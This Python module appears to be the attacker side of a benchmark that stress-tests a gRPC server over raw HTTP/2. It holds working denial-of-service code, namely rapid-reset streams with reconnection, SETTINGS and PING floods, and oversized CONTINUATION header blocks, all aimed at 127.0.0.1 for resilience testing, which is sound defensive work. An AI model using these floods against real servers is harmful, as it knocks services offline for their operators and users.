"""The attacker side of ``benchmarks/abuse.py``: raw HTTP/2 connections built from hyperframe
frames and hpack header blocks, and the attacks that use them.

Everything here is blocking and single-threaded: one ``select`` loop writes pre-built bytes in
big chunks and, unless told not to, reads what the server answers at the same time (so a server
is never stalled by a peer that does not read, except in the attack that is about exactly that).
Every loop is bounded by a count and by a deadline. Only 127.0.0.1 is ever dialled.
"""

from __future__ import annotations

import bisect
import select
import socket
import struct
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PATH = "/echo.v1.Echo/Unary"
CHUNK = 256 * 1024  # bytes handed to one send()
MAX_FRAME = 16384  # the frame size every peer accepts
EMPTY_MESSAGE = b"\x00\x00\x00\x00\x00"  # a gRPC length-prefixed, empty EchoRequest
CANCEL = 8
H2_ERRORS = (
    "NO_ERROR",
    "PROTOCOL_ERROR",
    "INTERNAL_ERROR",
    "FLOW_CONTROL_ERROR",
    "SETTINGS_TIMEOUT",
    "STREAM_CLOSED",
    "FRAME_SIZE_ERROR",
    "REFUSED_STREAM",
    "CANCEL",
    "COMPRESSION_ERROR",
    "CONNECT_ERROR",
    "ENHANCE_YOUR_CALM",
    "INADEQUATE_SECURITY",
    "HTTP_1_1_REQUIRED",
)
GRPC_CODES = (
    "OK",
    "CANCELLED",
    "UNKNOWN",
    "INVALID_ARGUMENT",
    "DEADLINE_EXCEEDED",
    "NOT_FOUND",
    "ALREADY_EXISTS",
    "PERMISSION_DENIED",
    "RESOURCE_EXHAUSTED",
    "FAILED_PRECONDITION",
    "ABORTED",
    "OUT_OF_RANGE",
    "UNIMPLEMENTED",
    "INTERNAL",
    "UNAVAILABLE",
    "DATA_LOSS",
    "UNAUTHENTICATED",
)
_FRAME_HEADER = struct.Struct(">BHBBL")  # 24-bit length as 8 + 16 bits, type, flags, stream
_END_STREAM, _ACK, _END_HEADERS, _PADDED, _PRIORITY = 0x1, 0x1, 0x4, 0x8, 0x20

Ready = Callable[[], None]


def h2_error(code: int) -> str:
    return H2_ERRORS[code] if 0 <= code < len(H2_ERRORS) else f"0x{code:x}"


def request_headers(port: int, extra: list[tuple[str, str]] | None = None) -> list[Any]:
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", PATH),
        (":authority", f"{HOST}:{port}"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *(extra or ()),
    ]


def header_frames(stream_id: int, block: bytes, end_stream: bool) -> bytes:
    """HEADERS, plus CONTINUATIONs when the block is larger than one frame."""
    first, rest = block[:MAX_FRAME], block[MAX_FRAME:]
    flags = ["END_STREAM"] if end_stream else []
    if not rest:
        flags.append("END_HEADERS")
    out = [HeadersFrame(stream_id, data=first, flags=flags).serialize()]
    while rest:
        part, rest = rest[:MAX_FRAME], rest[MAX_FRAME:]
        flags = [] if rest else ["END_HEADERS"]
        out.append(ContinuationFrame(stream_id, data=part, flags=flags).serialize())
    return b"".join(out)


def reset_pairs(port: int, count: int) -> tuple[bytes, list[int]]:
    """HEADERS (request open, no END_STREAM) + RST_STREAM(CANCEL) on streams 1, 3, 5, ... of a
    fresh connection, and the offset at which each pair ends. The hpack encoder indexes the
    headers, so after the first pair each header block is a few bytes (as an attacker's is)."""
    encoder = hpack.Encoder()
    headers = request_headers(port)
    parts: list[bytes] = []
    ends: list[int] = []
    total = 0
    for i in range(count):
        stream_id = 2 * i + 1
        pair = (
            HeadersFrame(stream_id, data=encoder.encode(headers), flags=["END_HEADERS"]).serialize()
            + RstStreamFrame(stream_id, error_code=CANCEL).serialize()
        )
        parts.append(pair)
        total += len(pair)
        ends.append(total)
    return b"".join(parts), ends


@dataclass
class Seen:
    """What the server sent on one raw connection."""

    frames: int = 0
    settings: int = 0
    settings_acks: int = 0
    pings: int = 0
    ping_acks: int = 0
    data_bytes: int = 0
    rst: dict[str, int] = field(default_factory=dict)
    goaway: dict[str, Any] | None = None
    goaways: int = 0
    closed: str = ""  # why the connection ended ("" while open)
    # per tracked stream: header blocks received, RST code, END_STREAM seen
    blocks: dict[int, list[list[tuple[str, str]]]] = field(default_factory=dict)
    stream_rst: dict[int, str] = field(default_factory=dict)
    ended: set[int] = field(default_factory=set)

    def goaway_text(self) -> str:
        if self.goaway is None:
            return "none"
        g = self.goaway
        debug = f' "{g["debug"]}"' if g["debug"] else ""
        return f"{g['code']}{debug} (last stream {g['last_stream_id']})"

    def summary(self) -> dict[str, Any]:
        return {
            "frames_received": self.frames,
            "settings_acks": self.settings_acks,
            "ping_acks": self.ping_acks,
            "server_pings": self.pings,
            "rst_stream_received": dict(self.rst),
            "goaway": self.goaway,
            "goaways": self.goaways,
            "closed": self.closed or "still open",
        }


class RawConn:
    """One client connection to 127.0.0.1:``port`` speaking frames we build ourselves."""

    def __init__(
        self,
        port: int,
        *,
        rcvbuf: int | None = None,
        track: tuple[int, ...] = (),
        connect_timeout: float = 10.0,
    ) -> None:
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if rcvbuf:  # before connect, so the window we advertise is small from the start
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        sock.settimeout(connect_timeout)
        try:
            sock.connect((HOST, port))
        except OSError:
            sock.close()
            raise
        sock.setblocking(False)
        self.sock = sock
        self.seen = Seen()
        self.track = set(track)
        self.bytes_sent = 0
        self._buf = bytearray()
        self._decoder = hpack.Decoder(max_header_list_size=1 << 24)
        self._hb: tuple[int, bool, list[bytes]] | None = None  # header block being assembled

    def close(self) -> None:
        self.sock.close()
        if not self.seen.closed:
            self.seen.closed = "closed by us"

    def __enter__(self) -> RawConn:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()

    # -- IO ---------------------------------------------------------------------------------
    def handshake(self, timeout: float = 10.0) -> None:
        """Preface + empty SETTINGS; wait for the server's SETTINGS (and its ACK of ours) and
        acknowledge them."""
        deadline = time.monotonic() + timeout
        self.write(PREFACE + SettingsFrame(0).serialize(), deadline)
        self.read_until(lambda s: s.settings > 0 and s.settings_acks > 0, deadline)
        if not self.seen.settings:
            raise RuntimeError(f"no SETTINGS from the server ({self.seen.closed or 'timeout'})")
        self.write(SettingsFrame(0, flags=["ACK"]).serialize(), deadline)

    def write(
        self, data: bytes, deadline: float, *, read: bool = True, stall: float | None = None
    ) -> int:
        """Write ``data`` (reading meanwhile unless ``read`` is False) until it is all written,
        the connection breaks, ``deadline`` passes, or nothing could be written for ``stall``
        seconds. Returns the bytes written."""
        view = memoryview(data)
        sent = 0
        last_progress = time.monotonic()
        sock = self.sock
        while sent < len(view) and not self.seen.closed:
            now = time.monotonic()
            if now >= deadline or (stall is not None and now - last_progress >= stall):
                break
            readers = [sock] if read else []
            readable, writable, _ = select.select(readers, [sock], [], min(deadline - now, 0.25))
            if readable:
                self._read_once()
            if writable and not self.seen.closed:
                try:
                    n = sock.send(view[sent : sent + CHUNK])
                except BlockingIOError:
                    continue
                except OSError as exc:
                    self._lost(exc)
                    break
                sent += n
                self.bytes_sent += n
                last_progress = time.monotonic()
        return sent

    def read_until(
        self, done: Callable[[Seen], bool], deadline: float, *, idle: float | None = None
    ) -> None:
        """Read until ``done(seen)``, the connection ends, ``deadline``, or (``idle``) nothing
        arrived for that many seconds."""
        last_data = time.monotonic()
        while not self.seen.closed and not done(self.seen):
            now = time.monotonic()
            if now >= deadline or (idle is not None and now - last_data >= idle):
                return
            readable, _, _ = select.select([self.sock], [], [], min(deadline - now, 0.1))
            if readable and self._read_once():
                last_data = time.monotonic()

    def _read_once(self) -> int:
        try:
            data = self.sock.recv(1 << 20)
        except BlockingIOError:
            return 0
        except OSError as exc:
            self._lost(exc)
            return 0
        if not data:
            self._lost(None)
            return 0
        self._buf += data
        self._parse()
        return len(data)

    def _lost(self, exc: OSError | None) -> None:
        if not self.seen.closed:
            if exc is None:
                self.seen.closed = "closed by server (EOF)"
            else:
                name = type(exc).__name__
                self.seen.closed = f"closed by server ({name}: {exc.strerror or exc})"

    # -- frames received ---------------------------------------------------------------------
    def _parse(self) -> None:
        buf = self._buf
        size = len(buf)
        offset = 0
        while size - offset >= 9:
            high, low, frame_type, flags, stream_id = _FRAME_HEADER.unpack_from(buf, offset)
            end = offset + 9 + ((high << 16) | low)
            if end > size:
                break
            payload = bytes(buf[offset + 9 : end])
            offset = end
            self._frame(frame_type, flags, stream_id & 0x7FFFFFFF, payload)
        del buf[:offset]

    def _frame(self, frame_type: int, flags: int, stream_id: int, payload: bytes) -> None:
        seen = self.seen
        seen.frames += 1
        if frame_type == 0x0:  # DATA
            seen.data_bytes += len(payload)
            if flags & _END_STREAM and stream_id in self.track:
                seen.ended.add(stream_id)
        elif frame_type == 0x1:  # HEADERS
            start, pad = 0, 0
            if flags & _PADDED and payload:
                pad, start = payload[0], 1
            if flags & _PRIORITY:
                start += 5
            block = payload[start : len(payload) - pad]
            end_stream = bool(flags & _END_STREAM)
            if flags & _END_HEADERS:
                self._block(stream_id, block, end_stream)
            else:
                self._hb = (stream_id, end_stream, [block])
        elif frame_type == 0x9:  # CONTINUATION
            if self._hb is not None:
                self._hb[2].append(payload)
                if flags & _END_HEADERS:
                    sid, end_stream, parts = self._hb
                    self._hb = None
                    self._block(sid, b"".join(parts), end_stream)
        elif frame_type == 0x3:  # RST_STREAM
            code = h2_error(int.from_bytes(payload[:4], "big"))
            seen.rst[code] = seen.rst.get(code, 0) + 1
            if stream_id in self.track:
                seen.stream_rst[stream_id] = code
        elif frame_type == 0x4:  # SETTINGS
            if flags & _ACK:
                seen.settings_acks += 1
            else:
                seen.settings += 1
        elif frame_type == 0x6:  # PING
            if flags & _ACK:
                seen.ping_acks += 1
            else:
                seen.pings += 1
        elif frame_type == 0x7:  # GOAWAY
            seen.goaways += 1
            if seen.goaway is None:
                seen.goaway = {
                    "last_stream_id": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                    "code": h2_error(int.from_bytes(payload[4:8], "big")),
                    "debug": payload[8:].decode("utf-8", "replace")[:200],
                }

    def _block(self, stream_id: int, block: bytes, end_stream: bool) -> None:
        try:
            headers = self._decoder.decode(block)
        except Exception as exc:  # a broken table ends what we can learn, not the run
            headers = [("x-abuse-decode-error", f"{type(exc).__name__}: {exc}")]
        if stream_id in self.track:
            self.seen.blocks.setdefault(stream_id, []).append(
                [(str(k), str(v)) for k, v in headers]
            )
            if end_stream:
                self.seen.ended.add(stream_id)

    # -- one stream's outcome ----------------------------------------------------------------
    def stream_done(self, stream_id: int) -> bool:
        return stream_id in self.seen.ended or stream_id in self.seen.stream_rst

    def outcome(self, stream_id: int) -> str:
        for block in reversed(self.seen.blocks.get(stream_id, [])):
            values = dict(block)
            if "grpc-status" in values:
                code = int(values["grpc-status"])
                name = GRPC_CODES[code] if 0 <= code < len(GRPC_CODES) else str(code)
                message = values.get("grpc-message", "")
                return f"grpc-status {name}" + (f' "{message[:120]}"' if message else "")
        if stream_id in self.seen.stream_rst:
            return f"RST_STREAM {self.seen.stream_rst[stream_id]}"
        if self.seen.goaway is not None:
            return f"no answer; GOAWAY {self.seen.goaway_text()}"
        if self.seen.closed:
            return f"no answer; connection {self.seen.closed}"
        return "no answer within the time limit"


# ------------------------------------------------------------------------------------------
# the attacks: each builds its bytes, calls ``ready()`` (which returns on the parent's "go"),
# attacks, and returns what it saw


def rapid_reset(port: int, count: int, ready: Ready) -> dict[str, Any]:
    """``count`` HEADERS + RST_STREAM(CANCEL) pairs as fast as the socket takes them, on one
    connection."""
    data, ends = reset_pairs(port, count)
    with RawConn(port) as conn:
        conn.handshake()
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 60)
        write_s = time.monotonic() - start
        conn.read_until(lambda s: False, time.monotonic() + 5, idle=1.0)
        pairs = bisect.bisect_right(ends, sent)
        result = {
            "pairs_planned": count,
            "pairs_written": pairs,
            "write_s": round(write_s, 3),
            "pairs_per_s": round(pairs / write_s) if write_s > 0 else None,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }
    return result


def steady_reset(port: int, rate: float, duration: float, ready: Ready) -> dict[str, Any]:
    """``rate`` HEADERS + RST_STREAM pairs a second for ``duration`` seconds. A connection the
    server ends (or GOAWAYs) is replaced by a new one, as a real attacker would do; the rate is
    kept over the whole run (a new connection catches up)."""
    per_conn = int(rate * duration) + 1
    data, ends = reset_pairs(port, per_conn)
    max_connections = 2000
    connections = 0
    goaways: dict[str, int] = {}
    first_goaway = "none"
    closed_by_server = 0
    total = 0
    conn: RawConn | None = None
    index = 0  # pairs written on the current connection
    ready()
    start = time.monotonic()
    end_at = start + duration
    try:
        while (now := time.monotonic()) < end_at:
            if (
                conn is None
                or conn.seen.closed
                or conn.seen.goaway is not None
                or index >= per_conn
            ):
                if conn is not None:
                    conn.read_until(lambda s: False, now + 0.05, idle=0.02)
                    if conn.seen.goaway is not None:
                        text = conn.seen.goaway_text().split(" (last")[0]
                        goaways[text] = goaways.get(text, 0) + 1
                        if first_goaway == "none":
                            first_goaway = conn.seen.goaway_text()
                    if conn.seen.closed:
                        closed_by_server += 1
                    conn.close()
                    conn = None
                if connections >= max_connections:
                    break
                conn = RawConn(port)
                conn.handshake()
                connections += 1
                index = 0
                continue
            due = min(int((now - start) * rate) - total, per_conn - index)
            if due <= 0:
                conn.read_until(lambda s: False, min(end_at, now + 0.004))
                continue
            lo = ends[index - 1] if index else 0
            chunk = data[lo : ends[index + due - 1]]
            sent = conn.write(chunk, min(end_at + 1.0, now + 1.0))
            done = bisect.bisect_right(ends, lo + sent) - index
            total += done
            index += done
            if sent < len(chunk) and not conn.seen.closed:
                conn.seen.closed = "abandoned by us (write stalled)"
    finally:
        if conn is not None:
            if conn.seen.goaway is not None:
                text = conn.seen.goaway_text().split(" (last")[0]
                goaways[text] = goaways.get(text, 0) + 1
                if first_goaway == "none":
                    first_goaway = conn.seen.goaway_text()
            conn.close()
    elapsed = time.monotonic() - start
    return {
        "rate_planned": rate,
        "duration_s": round(elapsed, 2),
        "resets_written": total,
        "resets_per_s": round(total / elapsed) if elapsed > 0 else None,
        "connections": connections,
        "connections_closed_by_server": closed_by_server,
        "goaways": goaways,
        "goaway_text": first_goaway,
    }


def settings_flood(port: int, count: int, ready: Ready) -> dict[str, Any]:
    """``count`` empty SETTINGS frames on one connection, reading the ACKs as they come."""
    data = SettingsFrame(0).serialize() * count
    with RawConn(port) as conn:
        conn.handshake()
        base = conn.seen.settings_acks
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 60)
        write_s = time.monotonic() - start
        frames = sent // 9
        conn.read_until(lambda s: s.settings_acks - base >= frames, start + 70, idle=2.0)
        return {
            "frames_planned": count,
            "frames_written": frames,
            "write_s": round(write_s, 3),
            "acks_received": conn.seen.settings_acks - base,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }


def ping_flood(
    port: int, count: int, ready: Ready, *, rcvbuf: int = 4096, hold: float = 1.0
) -> dict[str, Any]:
    """Up to ``count`` PINGs from a peer that never reads (a tiny receive buffer, so the
    server's replies back up at once). Writing stops when the server stops reading (no progress
    for 3 s) or ends the connection. Then, after ``hold`` seconds, everything the server had
    queued for us is read and counted."""
    data = b"".join(
        PingFrame(0, opaque_data=struct.pack(">Q", i)).serialize() for i in range(count)
    )
    with RawConn(port, rcvbuf=rcvbuf) as conn:
        conn.handshake()
        ready()
        start = time.monotonic()
        sent = conn.write(data, start + 30, read=False, stall=3.0)
        write_s = time.monotonic() - start
        stalled = sent < len(data) and not conn.seen.closed
        closed_while_writing = conn.seen.closed
        time.sleep(hold)
        conn.seen.closed = ""  # an EPIPE while writing: the receive side may still hold data
        conn.read_until(lambda s: False, time.monotonic() + 20, idle=2.0)
        return {
            "pings_planned": count,
            "pings_written": sent // 17,
            "write_s": round(write_s, 3),
            "writes_stalled": stalled,
            "closed_while_writing": closed_while_writing or "no",
            "acks_read_afterwards": conn.seen.ping_acks,
            "goaway_text": conn.seen.goaway_text(),
            **conn.seen.summary(),
        }


def big_metadata(port: int, sizes: list[int], ready: Ready) -> dict[str, Any]:
    """For each size: one request whose metadata carries a ``x-big`` value of that many bytes
    (not Huffman-coded, never indexed, split in CONTINUATIONs), then a normal request on the
    same connection to see whether it survived."""
    ready()
    out: dict[str, Any] = {}
    for size in sizes:
        with RawConn(port, track=(1, 3)) as conn:
            conn.handshake()
            encoder = hpack.Encoder()
            big = [
                hpack.NeverIndexedHeaderTuple(k, v)
                for k, v in request_headers(port, [("x-big", "a" * size)])
            ]
            block = encoder.encode(big, huffman=False)
            first = (
                header_frames(1, block, False)
                + DataFrame(1, data=EMPTY_MESSAGE, flags=["END_STREAM"]).serialize()
            )
            start = time.monotonic()
            sent = conn.write(first, start + 20)
            conn.read_until(lambda s: conn.stream_done(1) or s.goaway is not None, start + 10)
            first_ms = (time.monotonic() - start) * 1000
            entry: dict[str, Any] = {
                "header_block_bytes": len(block),
                "bytes_written": sent,
                "first_call": conn.outcome(1),
                "first_call_ms": round(first_ms, 1),
            }
            if conn.seen.closed or conn.seen.goaway is not None:
                entry["second_call"] = "not possible: connection ended"
                entry["survived"] = False
            else:
                second = (
                    header_frames(3, encoder.encode(request_headers(port)), False)
                    + DataFrame(3, data=EMPTY_MESSAGE, flags=["END_STREAM"]).serialize()
                )
                conn.write(second, time.monotonic() + 10)
                conn.read_until(lambda s: conn.stream_done(3), time.monotonic() + 10)
                entry["second_call"] = conn.outcome(3)
                entry["survived"] = entry["second_call"] == "grpc-status OK"
            conn.read_until(lambda s: False, time.monotonic() + 0.5, idle=0.2)
            entry["goaway_text"] = conn.seen.goaway_text()
            entry["closed"] = conn.seen.closed or "still open"
            out[str(size)] = entry
    return out
